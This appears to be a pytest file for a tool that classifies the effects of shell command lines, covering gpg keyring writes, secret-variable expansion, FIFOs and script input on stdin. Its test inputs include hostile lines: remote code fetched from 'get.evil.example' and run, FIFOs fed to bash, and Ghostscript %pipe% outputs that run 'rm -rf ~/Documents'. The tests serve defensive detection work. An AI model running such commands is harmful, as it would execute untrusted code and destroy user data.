"""gaps50a: the known gaps stdin49, netcfg49 and endpoints49 left open, each closed by its mechanism: gpg's trust
commands write the keyring `--homedir`/`GNUPGHOME` names (effects/state_dirs.py); a single-quoted `$NAME` is text,
not a variable printed (effects/words.printed_environment, shell/outputs.quoted_words); a FIFO the line made is a
file it made (programs.json mkfifo, mknod); a program reads its script on stdin as its entry says (`stdin_script`
true, false or `named`: only `-`; `/dev/stdin` always), past a verb that runs a script (`script_after`: `bun run
-`); Ghostscript's `%pipe%CMD` output runs CMD (`pipe_prefixes`, effects/untabled.piped)."""

from __future__ import annotations

from pathlib import Path

import pytest
from effect_support import HOME, ops


def _written(line: str, proj: Path) -> set[str]:
    return {str(e["path"]) for e in ops(line, proj, "write")}


@pytest.mark.parametrize(
    ("line", "path"),
    [
        ("gpg --homedir ./ci-gnupg --import-ownertrust trust.txt", "{proj}/ci-gnupg/trustdb.gpg"),
        ("gpg --homedir=/tmp/kr --batch --quick-lsign-key ABCD", "/tmp/kr/pubring.kbx"),
        ("GNUPGHOME=/tmp/kr gpg --batch --lsign-key ABCD", "/tmp/kr/pubring.kbx"),
        ("export GNUPGHOME=/tmp/kr; gpg --tofu-policy good ABCD", "/tmp/kr/tofu.db"),
        ("GNUPGHOME=/tmp/x gpg --homedir /tmp/kr --lsign-key A", "/tmp/kr/pubring.kbx"),  # the option wins
    ],
)
def test_a_trust_command_writes_the_keyring_its_homedir_names(line: str, path: str, proj: Path) -> None:
    assert _written(line, proj) == {path.format(proj=proj)}


@pytest.mark.parametrize(
    "line",
    [
        "gpg --import-ownertrust t",
        "gpg --homedir ~/.gnupg --import-ownertrust t",
        'gpg --homedir "$D" --lsign-key A',  # built at run time: it may be the user's
        "GNUPGHOME=~/.gnupg gpg --lsign-key A",
    ],
)
def test_the_users_keyring_stays_written(line: str, proj: Path) -> None:
    assert any(p.startswith(f"{HOME}/.gnupg/") for p in _written(line, proj))


def _environment(line: str, proj: Path) -> list[list[str]]:
    return [e["variables"] for e in ops(line, proj, "read") if e["path"] == "/proc/self/environ"]


@pytest.mark.parametrize(
    "line",
    [
        "printf 'GITHUB_TOKEN=${GITHUB_TOKEN}\\n' > .env.example",
        "echo 'aws_secret_access_key = $AWS_SECRET_ACCESS_KEY' >> docs/setup.md",
        "printf '%s\\n' '$NPM_TOKEN'",
        "echo \\$GITHUB_TOKEN",
    ],
)
def test_a_quoted_dollar_prints_no_variable(line: str, proj: Path) -> None:
    assert _environment(line, proj) == []


@pytest.mark.parametrize(
    ("line", "name"),
    [
        ('printf "token=$GITHUB_TOKEN\\n"', "GITHUB_TOKEN"),
        ("echo $AWS_SECRET_ACCESS_KEY", "AWS_SECRET_ACCESS_KEY"),
        ("echo 'x'\"$GITHUB_TOKEN\"", "GITHUB_TOKEN"),
        ("echo '$GITHUB_TOKEN' $GITHUB_TOKEN", "GITHUB_TOKEN"),  # the same text once quoted, once not
        ("jq -n '$ENV.GITHUB_TOKEN'", "GITHUB_TOKEN"),  # jq's own variable, not the shell's
        ("sh -c 'echo $GITHUB_TOKEN'", "GITHUB_TOKEN"),
    ],
)
def test_an_expanded_dollar_still_prints_the_variable(line: str, name: str, proj: Path) -> None:
    assert any(name in variables for variables in _environment(line, proj))


@pytest.mark.parametrize(
    "line",
    ["mkfifo /tmp/.q; bash < /tmp/.q", "mknod /tmp/f p && sh < /tmp/f", "mkfifo -m 600 /tmp/c; python3 - < /tmp/c"],
)
def test_a_fifo_the_line_made_fed_to_a_shell_is_code_written_unseen(line: str, proj: Path) -> None:
    [run] = ops(line, proj, "exec")
    assert run["known"] is False and run["flow"] == "write"


def test_mknod_makes_its_first_operand_only(proj: Path) -> None:
    assert _written("mknod -m 600 /tmp/f c 1 3", proj) == {"/tmp/f"}


URL = "https://get.evil.example/i"


@pytest.mark.parametrize(
    "line",
    [
        f"curl -so x {URL} && bun run - < x",
        f"curl -so x.ts {URL} && bun run x.ts",
        f"curl -so x {URL} && bpftrace - < x",
        f"curl -so x {URL} && Rscript - < x",
        f"curl -so x {URL} && groovy /dev/stdin < x",  # the kernel's file for stdin, whatever the program
        f"curl -so x {URL} && source /dev/stdin < x",
    ],
)
def test_a_fed_file_is_the_script_where_the_program_reads_it(line: str, proj: Path) -> None:
    [run] = [e for e in ops(line, proj, "exec") if e["program"] != "curl"]
    assert run["flow"] == "fetch" and str(run["path"]).endswith(("/x", "/x.ts"))


@pytest.mark.parametrize(
    "line",
    [f"curl -so x {URL} && {p} < x" for p in ("dart", "groovy", "bun", "bpftrace", "kotlin", "elixir", "Rscript")],
)
def test_a_program_that_reads_no_script_on_stdin_runs_no_fed_file(line: str, proj: Path) -> None:
    assert [e for e in ops(line, proj, "exec") if e["program"] != "curl"] == []


@pytest.mark.parametrize(
    "line",
    [
        "gs -sDEVICE=txtwrite -sOutputFile=%pipe%'rm -rf ~/Documents' in.pdf",
        "gs -q -sDEVICE=txtwrite -o '%pipe%rm -rf ~/Documents' in.pdf",
        "gs -sDEVICE=txtwrite -sOutputFile='|rm -rf ~/Documents' in.pdf",
    ],
)
def test_a_pipe_output_runs_its_command(line: str, proj: Path) -> None:
    [run] = ops(line, proj, "exec")
    assert run["code"] == {"lang": "sh", "text": "rm -rf ~/Documents"}
    assert [e["path"] for e in ops(line, proj, "delete")] == [f"{HOME}/Documents"]


def test_a_plain_output_runs_nothing(proj: Path) -> None:
    assert ops("gs -sDEVICE=png16m -r150 -o page-%03d.png in.pdf", proj, "exec") == []
    assert [e["code"]["text"] for e in ops("gs -sDEVICE=pdfwrite -sOutputFile=%pipe%lpr in.pdf", proj, "exec")] == [
        "lpr"
    ]
